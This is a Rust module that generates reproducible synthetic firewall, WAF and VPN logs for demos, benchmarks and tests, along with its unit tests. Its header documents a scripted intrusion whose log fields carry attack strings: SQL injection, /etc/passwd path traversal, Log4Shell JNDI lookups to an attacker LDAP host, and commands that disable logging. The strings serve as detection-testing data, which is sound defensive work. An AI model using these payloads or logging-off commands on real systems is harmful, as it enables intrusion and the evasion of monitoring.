//! Real-looking security logs, made to order: for `hydrant demo`, for the benchmarks, for tests.
//!
//! In: a [`Kind`], a seed, the time of each line. Out: lines as the products write them, without a newline.
//! The same kind, seed and times give the same bytes on every machine. [`Traffic`] makes benign lines
//! without end, [`Attack`] a scripted intrusion, [`Corpus`] replays lines from memory so that a benchmark
//! pays nothing for making them. Nothing here reads a clock, a socket or the environment.
//!
//! Mean sizes in bytes, headers included: palo_alto 738, fortigate 838, cisco_asa 170, aws_waf 2478,
//! aws_network_firewall 609, aws_vpc_flow 118 (within 10 %). The source of each format and what is left out
//! stand in the module of the product.
//!
//! # The scripted intrusion
//!
//! One attacker, 198.51.100.23 (TEST-NET-2, "Netherlands"), walks through the logs of four products in 20
//! seconds. Times are seconds from the start. Benign traffic shows none of the values in the last column,
//! with the exceptions that the second list names. Techniques are those of MITRE ATT&CK, numbered as SigmaHQ's
//! rules of August 2026 do: T1685 is what was T1562.001. Numbers of signatures come from published sample
//! logs, not from the vendors' databases.
//!
//! | at | scene | kind | lines | technique | field values |
//! |---|---|---|---|---|---|
//! | 0.0 | port_scan | cisco_asa | 45 | T1595.001 | `%ASA-4-106023` from 198.51.100.23 to 203.0.113.10, 45 different destination ports, every 40 ms |
//! | 1.9 | scan_detected | cisco_asa | 1 | T1595.001 | `%ASA-4-733101: Host 198.51.100.23 is attacking` |
//! | 2.5 | sql_injection | aws_waf | 12 | T1190 | user agent `sqlmap/1.8.4#stable (https://sqlmap.org)`; `args` hold `' OR 1=1` as `id=1%27%20OR%201%3D1--%20-` or `id=1'+OR+1=1--+-` (BLOCK, `SQLi_QUERYARGUMENTS`); every third has `' OR 1=1-- -` in the cookie and passes (ALLOW, `SQLi_COOKIE` with action COUNT) |
//! | 5.4 | path_traversal | aws_waf | 4 | T1190 | `uri` `/static/../../../../etc/passwd` (BLOCK, `GenericLFI_URIPATH`) or `args` `file=../../../../etc/passwd` (BLOCK, `GenericLFI_QUERYARGUMENTS`), in turn |
//! | 6.0 | log4shell | aws_waf | 6 | T1190 | `${jndi:ldap://198.51.100.23:1389/a}` as user agent, in turn with `${${lower:j}ndi:ldap://...}` in `X-Api-Version` (BLOCK, `Log4JRCE_HEADER`); the last two pass (ALLOW, `Log4JRCE_HEADER` with action COUNT) |
//! | 7.0 | log4j_ips | fortigate | 3 | T1190 | logid 0419016384, `attack="Apache.Log4j.Error.Log.Remote.Code.Execution"`, `attackid=51006`, `severity="critical"`; dropped, dropped, detected |
//! | 8.0 | vpn_brute_force | fortigate | 24 | T1110.001 | logid 0101039426, `action="ssl-login-fail"`, `user="svc-backup"`, `remip=198.51.100.23`, every 150 ms |
//! | 11.7 | vpn_login | fortigate | 1 | T1078 | logid 0101039947, `action="tunnel-up"`, `user="svc-backup"`, `remip=198.51.100.23`, `tunnelip=10.212.134.200` |
//! | 13.0 | command_and_control | palo_alto | 3 | T1071.001 | THREAT `spyware`, from 10.20.30.40 to 198.51.100.23, `Cobalt Strike Beacon Command and Control Traffic Detection(86172)`, category `command-and-control`, severity `critical`, action `alert` |
//! | 15.2 | admin_guess | fortigate | 2 | T1110.001 | logid 0100032002, `action="login"`, `status="failed"`, `user="admin"`, `srcip=198.51.100.23` |
//! | 15.8 | admin_login | fortigate | 1 | T1078 | logid 0100032001, `action="login"`, `status="success"`, `user="admin"`, `ui="https(198.51.100.23)"` |
//! | 16.3 | new_admin | fortigate | 1 | T1136.001 | logid 0100044547, `action="Add"`, `cfgpath="system.admin"`, `cfgobj="support"` |
//! | 17.0 | exfiltration | palo_alto | 1 | T1041 | TRAFFIC `end`, from 10.20.30.40 to 198.51.100.23, application `ssl`, 4,831,838,208 bytes sent, 38,797,312 received |
//! | 18.5 | fortigate_logging_off | fortigate | 1 | T1685 | logid 0100044546, `action="Edit"`, `cfgpath="log.syslogd.setting"`, `cfgattr="status[enable->disable]"` |
//! | 18.9 | asa_logging_off | cisco_asa | 1 | T1685 | `%ASA-5-111010: User 'enable_15', running 'CLI' from IP 10.212.134.200, executed 'no logging enable'` |
//! | 19.3 | palo_alto_logging_off | palo_alto | 1 | T1685 | CONFIG, command `delete`, admin `admin`, path `shared log-settings syslog siem-fwd`, host 10.212.134.200 |
//!
//! What benign traffic has as well, so that rules need more than one value: single 106023 denials, single
//! `ssl-login-fail` of other users, `tunnel-up` from other addresses, ASA `733100`, BLOCK by other rules,
//! COUNT of `SizeRestrictions_BODY`, spyware of severity `medium`, IPS signatures up to `high`.
//!
//! # Not supported
//!
//! IPv6 peers, local time zones, malformed lines (fuzz targets have those).

mod attack;
mod aws_network_firewall;
mod aws_vpc_flow;
mod aws_waf;
mod cisco_asa;
mod corpus;
mod fortigate;
mod line;
mod palo_alto;
mod random;
mod stamp;
mod world;

use std::fmt;
use std::str::FromStr;

use crate::error::{Error, ErrorKind, nearest};

pub use crate::traffic::attack::Attack;
pub use crate::traffic::corpus::{CORPUS_BYTES_MAX, Corpus};

/// Whose logs; the names are those of the decoders.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Kind {
    /// PAN-OS TRAFFIC and THREAT logs in RFC 5424.
    PaloAlto,
    /// FortiOS key=value logs in RFC 3164.
    Fortigate,
    /// Cisco ASA messages in RFC 3164.
    CiscoAsa,
    /// AWS WAF logs in JSON.
    AwsWaf,
    /// AWS Network Firewall logs in JSON.
    AwsNetworkFirewall,
    /// VPC flow logs, version 2, as text.
    AwsVpcFlow,
}

impl Kind {
    /// Every kind.
    pub const ALL: [Kind; 6] = [Kind::PaloAlto, Kind::Fortigate, Kind::CiscoAsa, Kind::AwsWaf, Kind::AwsNetworkFirewall, Kind::AwsVpcFlow];

    /// The name as it is written in a configuration.
    pub fn name(self) -> &'static str {
        match self {
            Kind::PaloAlto => "palo_alto",
            Kind::Fortigate => "fortigate",
            Kind::CiscoAsa => "cisco_asa",
            Kind::AwsWaf => "aws_waf",
            Kind::AwsNetworkFirewall => "aws_network_firewall",
            Kind::AwsVpcFlow => "aws_vpc_flow",
        }
    }
}

impl fmt::Display for Kind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.pad(self.name())
    }
}

impl FromStr for Kind {
    type Err = Error;

    fn from_str(name: &str) -> Result<Self, Error> {
        if let Some(kind) = Self::ALL.into_iter().find(|kind| kind.name() == name) {
            return Ok(kind);
        }
        let names = Self::ALL.map(Kind::name);
        let message = match nearest(name, names) {
            Some(meant) => format!("there is no traffic kind `{name}`, did you mean `{meant}`?"),
            None => format!("there is no traffic kind `{name}`, there are {}", names.join(", ")),
        };
        Err(Error::new(ErrorKind::Configuration, "read traffic kind", message))
    }
}

/// Benign lines of one kind, without end.
///
/// ```
/// use hydrant::traffic::{Kind, Traffic};
///
/// let mut traffic = Traffic::new(Kind::CiscoAsa, 1);
/// let mut line = Vec::new();
/// traffic.next(1_795_248_000_000, &mut line);
/// assert!(line.starts_with(b"<16"));
/// ```
#[derive(Clone, Debug)]
pub struct Traffic {
    kind: Kind,
    world: world::World,
    asa: cisco_asa::CiscoAsa,
    waf: aws_waf::AwsWaf,
    /// Room for a URL, so that none is allocated per line.
    url: Vec<u8>,
}

impl Traffic {
    /// The lines of `kind` that belong to `seed`. Hosts, peers and users depend on the seed alone, so they
    /// are the same in the lines of every kind.
    pub fn new(kind: Kind, seed: u64) -> Self {
        Self {
            kind,
            world: world::World::new(seed, kind as u64 + 1),
            asa: cisco_asa::CiscoAsa::new(),
            waf: aws_waf::AwsWaf::default(),
            url: Vec::new(),
        }
    }

    /// The kind of the lines.
    pub fn kind(&self) -> Kind {
        self.kind
    }

    /// Appends one line without a newline, dated `now_ms` (milliseconds since 1970, UTC; times outside 1970
    /// to 9999 are clamped). Allocates only while `out` and the generator's own buffers grow.
    pub fn next(&mut self, now_ms: i64, out: &mut Vec<u8>) {
        self.world.advance(now_ms);
        let Self { kind, world, asa, waf, url } = self;
        match kind {
            Kind::PaloAlto => palo_alto::line(world, url, out),
            Kind::Fortigate => fortigate::line(world, url, out),
            Kind::CiscoAsa => asa.line(world, out),
            Kind::AwsWaf => waf.line(world, out),
            Kind::AwsNetworkFirewall => aws_network_firewall::line(world, out),
            Kind::AwsVpcFlow => aws_vpc_flow::line(world, out),
        }
    }
}

/// The columns of a CSV line, quotes removed. For tests: plain, slow, independent of the decoders.
#[cfg(test)]
fn csv_columns(line: &str) -> Vec<String> {
    let mut columns = vec![String::new()];
    let mut quoted = false;
    for character in line.chars() {
        match character {
            '"' => quoted = !quoted,
            ',' if !quoted => columns.push(String::new()),
            other => columns.last_mut().unwrap().push(other),
        }
    }
    assert!(!quoted, "a quote is left open: {line}");
    columns
}

/// The pairs of a key=value line, quotes removed; panics where the line is not made of pairs. For tests.
#[cfg(test)]
fn key_values(line: &str) -> std::collections::HashMap<String, String> {
    let mut pairs = std::collections::HashMap::new();
    let mut rest = line;
    while !rest.is_empty() {
        let (key, after) = rest.split_once('=').unwrap_or_else(|| panic!("no key in {rest}"));
        assert!(key.bytes().all(|byte| byte.is_ascii_lowercase() || byte == b'_'), "{key}");
        let (value, next) = match after.strip_prefix('"') {
            Some(quoted) => quoted.split_once('"').unwrap_or_else(|| panic!("open quote in {rest}")),
            None => after.split_at(after.find(' ').unwrap_or(after.len())),
        };
        assert!(pairs.insert(key.to_owned(), value.to_owned()).is_none(), "{key} comes twice");
        rest = next.strip_prefix(' ').unwrap_or(next);
    }
    pairs
}

#[cfg(test)]
mod tests {
    use crate::traffic::{Kind, Traffic};

    const START_MS: i64 = 1_795_248_000_000;

    fn lines(kind: Kind, seed: u64, count: i64) -> Vec<Vec<u8>> {
        let mut traffic = Traffic::new(kind, seed);
        (0..count)
            .map(|number| {
                let mut line = Vec::new();
                traffic.next(START_MS + number * 7, &mut line);
                line
            })
            .collect()
    }

    #[test]
    fn the_same_seed_gives_the_same_bytes_and_another_seed_others() {
        for kind in Kind::ALL {
            assert_eq!(lines(kind, 42, 500), lines(kind, 42, 500), "{kind}");
            assert_ne!(lines(kind, 42, 500), lines(kind, 43, 500), "{kind}");
        }
    }

    #[test]
    fn lines_are_single_utf8_lines_and_differ() {
        for kind in Kind::ALL {
            let mut lines = lines(kind, 1, 2_000);
            for line in &lines {
                let text = std::str::from_utf8(line).unwrap();
                assert!(!text.is_empty() && !text.contains(['\n', '\r']), "{kind}: {text}");
            }
            lines.sort();
            lines.dedup();
            assert!(lines.len() > 1_990, "{kind}: only {} of 2000 lines differ", lines.len());
        }
    }

    #[test]
    fn mean_sizes_are_those_of_the_module_page() {
        let sizes = [(Kind::PaloAlto, 738), (Kind::Fortigate, 838), (Kind::CiscoAsa, 170)];
        let more = [(Kind::AwsWaf, 2_478), (Kind::AwsNetworkFirewall, 609), (Kind::AwsVpcFlow, 118)];
        for (kind, expected) in sizes.into_iter().chain(more) {
            let mean = lines(kind, 3, 5_000).iter().map(Vec::len).sum::<usize>() / 5_000;
            assert!(mean.abs_diff(expected) * 10 <= expected, "{kind}: mean {mean} bytes, expected {expected} within 10 %");
        }
    }

    #[test]
    fn a_warm_generator_appends_without_growing_anything() {
        for kind in Kind::ALL {
            let mut traffic = Traffic::new(kind, 8);
            let mut out = Vec::new();
            for number in 0..5_000 {
                out.clear();
                traffic.next(START_MS + number, &mut out);
            }
            let capacities = (traffic.url.capacity(), traffic.asa.capacity(), traffic.waf.capacity(), out.capacity());
            for number in 5_000..8_000 {
                out.clear();
                traffic.next(START_MS + number, &mut out);
            }
            let after = (traffic.url.capacity(), traffic.asa.capacity(), traffic.waf.capacity(), out.capacity());
            assert_eq!(capacities, after, "{kind}");
        }
    }

    #[test]
    fn names_are_read_back_and_a_mistyped_one_is_explained() {
        for kind in Kind::ALL {
            assert_eq!(kind.name().parse::<Kind>().unwrap(), kind);
        }
        assert!("paloalto".parse::<Kind>().unwrap_err().to_string().contains("did you mean `palo_alto`"));
        assert!("kerberos_kdc".parse::<Kind>().unwrap_err().to_string().contains("aws_vpc_flow"));
    }
}
